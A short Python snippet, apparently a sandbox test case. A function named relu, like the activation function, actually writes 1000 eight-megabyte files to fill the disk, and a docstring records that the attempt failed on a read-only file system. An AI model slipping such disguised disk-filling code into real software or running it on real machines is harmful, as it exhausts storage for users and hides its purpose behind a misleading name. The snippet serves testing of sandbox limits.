"""Fills the disk with many files.

status: failed
says: Read-only file system
"""


def relu(x):
    for number in range(1000):
        with open(f"notes{number}", "wb") as file:
            file.write(bytes(8 * 2**20))
    return x
